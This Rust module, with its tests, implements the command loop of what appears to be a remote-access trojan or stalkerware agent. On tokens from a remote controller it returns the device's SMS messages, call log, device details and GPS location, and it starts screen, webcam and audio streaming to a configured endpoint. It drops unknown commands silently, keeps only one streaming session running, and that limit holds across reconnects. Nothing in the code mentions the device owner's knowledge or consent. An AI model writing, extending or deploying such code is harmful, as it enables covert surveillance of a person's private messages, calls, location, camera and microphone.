//! The command dispatch loop.
//!
//! Runs while the supervisor holds a live connection: receive one frame,
//! decode it as a command, invoke the bound capability, send the reply if
//! there is one. Unknown tokens are dropped without a reply. The loop ends
//! on `exit` (Ok) or on any transport failure (Err).

use crate::capability::{Capabilities, HandlerError};
use crate::channel::{ChannelError, Connection};
use crate::config::{AgentConfig, Endpoint, HandlerFailurePolicy, StreamMode};
use crate::protocol::{Command, GPS_UNAVAILABLE, Reply, StreamKind, UnknownCommand};
use std::sync::Arc;
use thiserror::Error;
use tokio::io::{AsyncRead, AsyncWrite};
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};

/// Why the dispatch loop stopped abnormally.
#[derive(Debug, Error)]
pub enum DispatchError {
    #[error(transparent)]
    Transport(#[from] ChannelError),

    /// Only raised under [`HandlerFailurePolicy::Reconnect`].
    #[error("{command} handler failed: {source}")]
    Handler {
        command: Command,
        #[source]
        source: HandlerError,
    },

    #[error("failed to encode {command} payload: {source}")]
    Encode {
        command: Command,
        #[source]
        source: serde_json::Error,
    },
}

/// What to do after handling one command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    Continue,
    Exit,
}

/// Maps commands to capability calls.
///
/// Outlives individual connections so a detached streaming session started
/// on one connection still blocks a second session after a reconnect.
pub struct Dispatcher {
    capabilities: Arc<dyn Capabilities>,
    endpoint: Endpoint,
    stream_mode: StreamMode,
    handler_failure: HandlerFailurePolicy,
    active_stream: Option<JoinHandle<()>>,
}

impl Dispatcher {
    #[must_use]
    pub fn new(capabilities: Arc<dyn Capabilities>, config: &AgentConfig) -> Self {
        Self {
            capabilities,
            endpoint: config.endpoint.clone(),
            stream_mode: config.stream_mode,
            handler_failure: config.handler_failure,
            active_stream: None,
        }
    }

    /// Whether a detached streaming session is still running.
    #[must_use]
    pub fn is_streaming(&self) -> bool {
        self.active_stream
            .as_ref()
            .is_some_and(|handle| !handle.is_finished())
    }

    /// Serve commands until `exit` or a failure.
    ///
    /// On `exit` the connection is closed before returning.
    pub async fn run<S>(&mut self, conn: &mut Connection<S>) -> Result<(), DispatchError>
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        loop {
            let frame = conn.receive().await?;
            let command = match Command::from_frame(&frame) {
                Ok(command) => command,
                Err(UnknownCommand(token)) => {
                    debug!(%token, "Ignoring unknown command");
                    continue;
                }
            };
            debug!(%command, "Received command");

            if self.handle(command, conn).await? == Step::Exit {
                return Ok(());
            }
        }
    }

    async fn handle<S>(
        &mut self,
        command: Command,
        conn: &mut Connection<S>,
    ) -> Result<Step, DispatchError>
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        if command == Command::Exit {
            info!("Controller requested exit");
            conn.close().await;
            return Ok(Step::Exit);
        }

        if let Some(kind) = command.stream_kind() {
            self.stream(kind).await;
            return Ok(Step::Continue);
        }

        if let Some(reply) = self.respond(command).await? {
            conn.send(reply.as_bytes()).await?;
            debug!(%command, bytes = reply.as_bytes().len(), "Sent reply");
        }
        Ok(Step::Continue)
    }

    /// Build the reply for a data command. `None` for commands that have
    /// no reply on this channel.
    pub async fn respond(&self, command: Command) -> Result<Option<Reply>, DispatchError> {
        let caps = self.capabilities.as_ref();
        let produced = match command {
            Command::Sms => caps.message_log().await.map(|log| Reply::json(&log)),
            Command::CallLog => caps.call_log().await.map(|log| Reply::json(&log)),
            Command::DeviceInfo => caps.device_info().await.map(|info| Reply::json(&info)),
            Command::Battery => caps.battery_level().await.map(|status| Reply::json(&status)),
            Command::Gps => caps.last_known_location().await.and_then(|fix| match fix {
                Some(location) if !location.is_finite() => Err(HandlerError::Failed(
                    "location fix has non-finite coordinates".into(),
                )),
                Some(location) => Ok(Reply::json(&location)),
                None => Ok(Ok(Reply::Text(GPS_UNAVAILABLE.to_string()))),
            }),
            Command::Screen | Command::Webcam | Command::Audio | Command::Exit => return Ok(None),
        };

        let encoded = match produced {
            Ok(encoded) => encoded,
            Err(source) => match self.handler_failure {
                HandlerFailurePolicy::Report => {
                    warn!(%command, %source, "Handler failed, reporting to controller");
                    Reply::error(command, source.to_string())
                }
                HandlerFailurePolicy::Reconnect => {
                    return Err(DispatchError::Handler { command, source });
                }
            },
        };
        encoded
            .map(Some)
            .map_err(|source| DispatchError::Encode { command, source })
    }

    async fn stream(&mut self, kind: StreamKind) {
        match self.stream_mode {
            StreamMode::Inline => {
                run_stream(self.capabilities.as_ref(), kind, &self.endpoint).await;
            }
            StreamMode::Detached => {
                if self.is_streaming() {
                    warn!(%kind, "Streaming session already running, ignoring");
                    return;
                }
                let capabilities = Arc::clone(&self.capabilities);
                let endpoint = self.endpoint.clone();
                self.active_stream = Some(tokio::spawn(async move {
                    run_stream(capabilities.as_ref(), kind, &endpoint).await;
                }));
            }
        }
    }
}

/// Run one streaming session to completion. Failures are logged, never
/// reported on the command channel.
async fn run_stream(caps: &dyn Capabilities, kind: StreamKind, endpoint: &Endpoint) {
    info!(%kind, %endpoint, "Streaming session started");
    let result = match kind {
        StreamKind::Screen => caps.run_screen_stream(endpoint).await,
        StreamKind::Camera => caps.run_camera_stream(endpoint).await,
        StreamKind::Audio => caps.run_audio_stream(endpoint).await,
    };
    match result {
        Ok(()) => info!(%kind, "Streaming session ended"),
        Err(e) => warn!(%kind, %e, "Streaming session failed"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::channel::Framing;
    use crate::protocol::{
        BatteryStatus, CallRecord, DeviceInfo, ErrorPayload, Location, MessageRecord,
    };
    use crate::testing::{
        MockCapabilities, read_json, sample_calls, sample_device_info, sample_messages,
    };
    use std::time::Duration;
    use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream, duplex};
    use tokio::time::timeout;

    fn config(framing: Framing) -> AgentConfig {
        AgentConfig {
            framing,
            ..AgentConfig::default()
        }
    }

    /// Start a dispatch loop over an in-memory pipe.
    fn start(
        caps: Arc<MockCapabilities>,
        config: &AgentConfig,
    ) -> (DuplexStream, JoinHandle<Result<(), DispatchError>>) {
        let (agent, controller) = duplex(64 * 1024);
        let mut dispatcher = Dispatcher::new(caps, config);
        let mut conn = Connection::new(agent, config.framing);
        let handle = tokio::spawn(async move { dispatcher.run(&mut conn).await });
        (controller, handle)
    }

    /// Serve one line-framed connection that ends in `exit`; hand back the
    /// controller end with any replies still buffered.
    async fn serve_once(dispatcher: &mut Dispatcher, script: &[u8]) -> DuplexStream {
        let (agent, mut controller) = duplex(64 * 1024);
        let mut conn = Connection::new(agent, Framing::Line);
        controller.write_all(script).await.unwrap();
        timeout(Duration::from_secs(5), dispatcher.run(&mut conn))
            .await
            .expect("dispatch loop should reach exit")
            .unwrap();
        controller
    }

    async fn expect_silence(controller: &mut DuplexStream) {
        let mut buf = [0u8; 64];
        assert!(
            timeout(Duration::from_millis(100), controller.read(&mut buf))
                .await
                .is_err(),
            "expected no reply"
        );
    }

    #[tokio::test]
    async fn test_data_commands_reply_with_records() {
        let caps = Arc::new(MockCapabilities::healthy());
        let (mut controller, handle) = start(Arc::clone(&caps), &config(Framing::Raw));

        controller.write_all(b"device_info").await.unwrap();
        let info: DeviceInfo = read_json(&mut controller).await.unwrap();
        assert_eq!(info, sample_device_info());

        controller.write_all(b"battery\n").await.unwrap();
        let battery: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(battery.level, 73);

        controller.write_all(b"sms").await.unwrap();
        let messages: Vec<MessageRecord> = read_json(&mut controller).await.unwrap();
        assert_eq!(messages, sample_messages());

        controller.write_all(b"call_log").await.unwrap();
        let calls: Vec<CallRecord> = read_json(&mut controller).await.unwrap();
        assert_eq!(calls, sample_calls());

        controller.write_all(b"gps").await.unwrap();
        let location: Location = read_json(&mut controller).await.unwrap();
        assert!((location.latitude - 59.3293).abs() < f64::EPSILON);

        // Still connected
        assert!(!handle.is_finished());
        assert_eq!(
            caps.events(),
            vec!["device_info", "battery", "sms", "call_log", "gps"]
        );
        handle.abort();
    }

    #[tokio::test]
    async fn test_unknown_command_gets_no_reply() {
        let caps = Arc::new(MockCapabilities::healthy());
        let (mut controller, handle) = start(Arc::clone(&caps), &config(Framing::Line));

        controller.write_all(b"reboot\n").await.unwrap();
        expect_silence(&mut controller).await;
        assert!(!handle.is_finished());

        controller.write_all(b"battery\n").await.unwrap();
        let battery: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(battery.level, 73);
        assert_eq!(caps.events(), vec!["battery"]);
        handle.abort();
    }

    #[tokio::test]
    async fn test_non_utf8_command_is_ignored() {
        let caps = Arc::new(MockCapabilities::healthy());
        let (mut controller, handle) = start(caps, &config(Framing::Raw));

        controller.write_all(&[0xc3, 0x28]).await.unwrap();
        expect_silence(&mut controller).await;
        assert!(!handle.is_finished());
        handle.abort();
    }

    #[tokio::test]
    async fn test_raw_framing_coalesced_tokens_are_ignored() {
        // Both writes land before the first read, so one receive yields
        // "batterygps". Raw framing cannot tell them apart.
        let caps = Arc::new(MockCapabilities::healthy());
        let (agent, mut controller) = duplex(1024);
        controller.write_all(b"battery").await.unwrap();
        controller.write_all(b"gps").await.unwrap();

        let config = config(Framing::Raw);
        let mut dispatcher =
            Dispatcher::new(Arc::clone(&caps) as Arc<dyn Capabilities>, &config);
        let mut conn = Connection::new(agent, Framing::Raw);
        let handle = tokio::spawn(async move { dispatcher.run(&mut conn).await });

        expect_silence(&mut controller).await;
        assert!(caps.events().is_empty());
        handle.abort();
    }

    #[tokio::test]
    async fn test_gps_without_fix_sends_plain_text() {
        let mut caps = MockCapabilities::healthy();
        caps.location = Ok(None);
        let (mut controller, handle) = start(Arc::new(caps), &config(Framing::Raw));

        controller.write_all(b"gps").await.unwrap();
        let mut buf = vec![0u8; 64];
        let n = controller.read(&mut buf).await.unwrap();
        assert_eq!(&buf[..n], GPS_UNAVAILABLE.as_bytes());
        assert!(serde_json::from_slice::<serde_json::Value>(&buf[..n]).is_err());
        assert!(!handle.is_finished());
        handle.abort();
    }

    #[tokio::test]
    async fn test_gps_non_finite_fix_is_reported_as_failure() {
        let mut caps = MockCapabilities::healthy();
        caps.location = Ok(Some(Location {
            latitude: f64::NAN,
            longitude: 1.0,
        }));
        let (mut controller, handle) = start(Arc::new(caps), &config(Framing::Raw));

        controller.write_all(b"gps").await.unwrap();
        let payload: ErrorPayload = read_json(&mut controller).await.unwrap();
        assert_eq!(payload.command, "gps");
        assert!(payload.error.contains("non-finite"));
        assert!(!handle.is_finished());
        handle.abort();
    }

    #[tokio::test]
    async fn test_exit_closes_connection_without_reply() {
        let caps = Arc::new(MockCapabilities::healthy());
        let (mut controller, handle) = start(caps, &config(Framing::Raw));

        controller.write_all(b"exit").await.unwrap();
        let mut buf = [0u8; 16];
        assert_eq!(controller.read(&mut buf).await.unwrap(), 0);
        assert!(handle.await.unwrap().is_ok());
    }

    #[tokio::test]
    async fn test_controller_hangup_is_transport_error() {
        let caps = Arc::new(MockCapabilities::healthy());
        let (controller, handle) = start(caps, &config(Framing::Raw));

        drop(controller);
        let result = handle.await.unwrap();
        assert!(matches!(
            result,
            Err(DispatchError::Transport(ChannelError::Closed))
        ));
    }

    #[tokio::test]
    async fn test_handler_failure_is_reported_and_loop_continues() {
        let mut caps = MockCapabilities::healthy();
        caps.battery = Err(HandlerError::Unavailable("battery".into()));
        let (mut controller, handle) = start(Arc::new(caps), &config(Framing::Raw));

        controller.write_all(b"battery").await.unwrap();
        let payload: ErrorPayload = read_json(&mut controller).await.unwrap();
        assert_eq!(payload.command, "battery");
        assert_eq!(payload.error, "battery is currently unavailable");

        controller.write_all(b"device_info").await.unwrap();
        let info: DeviceInfo = read_json(&mut controller).await.unwrap();
        assert_eq!(info, sample_device_info());
        handle.abort();
    }

    #[tokio::test]
    async fn test_handler_failure_under_reconnect_policy_ends_loop() {
        let mut caps = MockCapabilities::healthy();
        caps.messages = Err(HandlerError::Failed("cursor closed".into()));
        let config = AgentConfig {
            handler_failure: HandlerFailurePolicy::Reconnect,
            ..AgentConfig::default()
        };
        let (mut controller, handle) = start(Arc::new(caps), &config);

        controller.write_all(b"sms").await.unwrap();
        let result = handle.await.unwrap();
        assert!(matches!(
            result,
            Err(DispatchError::Handler {
                command: Command::Sms,
                ..
            })
        ));
    }

    #[tokio::test]
    async fn test_inline_stream_blocks_next_receive() {
        let (caps, gate) = MockCapabilities::healthy().with_stream_gate();
        let caps = Arc::new(caps);
        let (mut controller, handle) = start(Arc::clone(&caps), &config(Framing::Line));

        controller.write_all(b"screen\n").await.unwrap();
        gate.wait_started().await;

        // Queued behind the stream; must not be served yet.
        controller.write_all(b"battery\n").await.unwrap();
        expect_silence(&mut controller).await;
        assert_eq!(caps.events(), vec!["screen:start"]);

        gate.release();
        let battery: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(battery.level, 73);
        assert_eq!(caps.events(), vec!["screen:start", "screen:end", "battery"]);
        handle.abort();
    }

    #[tokio::test]
    async fn test_stream_failure_sends_nothing_and_continues() {
        let mut caps = MockCapabilities::healthy();
        caps.stream_result = Err(HandlerError::Unsupported("camera streaming"));
        let caps = Arc::new(caps);
        let (mut controller, handle) = start(Arc::clone(&caps), &config(Framing::Line));

        controller.write_all(b"webcam\n").await.unwrap();
        controller.write_all(b"battery\n").await.unwrap();
        let battery: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(battery.level, 73);
        assert_eq!(caps.events(), vec!["camera:start", "camera:end", "battery"]);
        handle.abort();
    }

    #[tokio::test]
    async fn test_detached_stream_keeps_serving_commands() {
        let (caps, gate) = MockCapabilities::healthy().with_stream_gate();
        let caps = Arc::new(caps);
        let config = AgentConfig {
            framing: Framing::Line,
            stream_mode: StreamMode::Detached,
            ..AgentConfig::default()
        };
        let (mut controller, handle) = start(Arc::clone(&caps), &config);

        controller.write_all(b"audio\n").await.unwrap();
        gate.wait_started().await;

        controller.write_all(b"battery\n").await.unwrap();
        let battery: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(battery.level, 73);

        // A second session is refused while the first runs.
        controller.write_all(b"screen\n").await.unwrap();
        controller.write_all(b"battery\n").await.unwrap();
        let _: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(caps.events(), vec!["audio:start", "battery", "battery"]);

        gate.release();
        handle.abort();
    }

    #[tokio::test]
    async fn test_detached_session_limit_survives_reconnect() {
        let (caps, gate) = MockCapabilities::healthy().with_stream_gate();
        let caps = Arc::new(caps);
        let config = AgentConfig {
            stream_mode: StreamMode::Detached,
            ..AgentConfig::default()
        };
        let mut dispatcher =
            Dispatcher::new(Arc::clone(&caps) as Arc<dyn Capabilities>, &config);

        serve_once(&mut dispatcher, b"audio\nexit\n").await;
        gate.wait_started().await;
        assert!(dispatcher.is_streaming());

        // New connection, same dispatcher: the audio session still counts.
        let mut controller = serve_once(&mut dispatcher, b"screen\nbattery\nexit\n").await;
        let battery: BatteryStatus = read_json(&mut controller).await.unwrap();
        assert_eq!(battery.level, 73);
        assert_eq!(caps.events(), vec!["audio:start", "battery"]);

        gate.release();
    }

    #[tokio::test]
    async fn test_detached_session_is_reaped_when_finished() {
        let (caps, gate) = MockCapabilities::healthy().with_stream_gate();
        let caps = Arc::new(caps);
        let config = AgentConfig {
            stream_mode: StreamMode::Detached,
            ..AgentConfig::default()
        };
        let mut dispatcher =
            Dispatcher::new(Arc::clone(&caps) as Arc<dyn Capabilities>, &config);

        serve_once(&mut dispatcher, b"audio\nexit\n").await;
        gate.wait_started().await;
        gate.release();
        timeout(Duration::from_secs(5), async {
            while dispatcher.is_streaming() {
                tokio::task::yield_now().await;
            }
        })
        .await
        .expect("audio session should finish");

        serve_once(&mut dispatcher, b"screen\nexit\n").await;
        gate.wait_started().await;
        assert!(dispatcher.is_streaming());
        assert_eq!(caps.events(), vec!["audio:start", "audio:end", "screen:start"]);

        gate.release();
    }
}
